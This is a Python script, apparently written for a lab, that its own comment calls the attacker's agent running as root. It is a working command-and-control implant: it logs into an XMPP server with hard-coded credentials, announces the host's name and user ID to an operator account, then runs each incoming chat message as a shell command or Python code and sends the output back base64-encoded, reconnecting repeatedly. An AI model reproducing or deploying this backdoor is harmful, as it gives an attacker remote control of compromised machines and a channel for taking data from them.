#!/usr/bin/python3
# (the attacker's agent, root) an XMPP client: chat.lab over 127.0.0.1:5222, tasks as chat messages
import base64, os, re, socket, subprocess, sys, time
from xml.sax.saxutils import escape, unescape

try:
    _lock = socket.socket(socket.AF_UNIX)
    _lock.bind("\0ca-sync")
except OSError:
    sys.exit(0)


def run(task):
    if task.startswith("py:"):
        env = {}
        exec("def _t():\n" + "\n".join("    " + l for l in task[3:].splitlines()), env)
        return str(env["_t"]())
    r = subprocess.run(["/bin/sh", "-c", task], capture_output=True, timeout=120)
    return (r.stdout + r.stderr).decode("utf-8", "replace")


def session():
    s = socket.create_connection(("127.0.0.1", 5222), timeout=30)
    hdr = "<?xml version='1.0'?><stream:stream to='chat.lab' xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>"
    s.sendall(hdr.encode()); time.sleep(0.3); s.recv(4096)
    s.sendall(("<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='PLAIN'>%s</auth>"
               % base64.b64encode(b"\0mill-7f3\0x9TqL2v").decode()).encode())
    time.sleep(0.3); s.recv(4096)
    s.sendall(hdr.encode()); time.sleep(0.3); s.recv(4096)
    s.sendall(b"<iq type='set' id='b1'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'><resource>mill</resource></bind></iq>")
    time.sleep(0.3); s.recv(4096)
    s.sendall(b"<presence/>")
    u = os.uname()
    s.sendall(("<message to='ops@chat.lab' type='chat'><body>up %s uid=%d pid=%d ppid=%d</body></message>"
               % (u.nodename, os.getuid(), os.getpid(), os.getppid())).encode())
    s.settimeout(None)
    buf = ""
    while True:
        d = s.recv(65536)
        if not d:
            return
        buf += d.decode("utf-8", "replace")
        while True:
            m = re.search(r"<message [^>]*id='(\d+)'[^>]*><body>(.*?)</body></message>", buf, re.S)
            if not m:
                break
            buf = buf[m.end():]
            task = unescape(m.group(2), {"&apos;": "'", "&quot;": '"'})
            if task.strip() == "exit":
                s.sendall(("<message to='ops@chat.lab' type='chat' id='%s'><body>%s</body></message>"
                           % (m.group(1), base64.b64encode(b"bye\n").decode())).encode())
                s.sendall(b"</stream:stream>")
                sys.exit(0)
            try:
                out = run(task)
            except Exception as e:
                out = "error: %r\n" % e
            s.sendall(("<message to='ops@chat.lab' type='chat' id='%s'><body>%s</body></message>"
                       % (m.group(1), base64.b64encode(out.encode()).decode())).encode())


os.chdir("/")
for _ in range(200):
    try:
        session()
    except OSError:
        pass
    time.sleep(5)
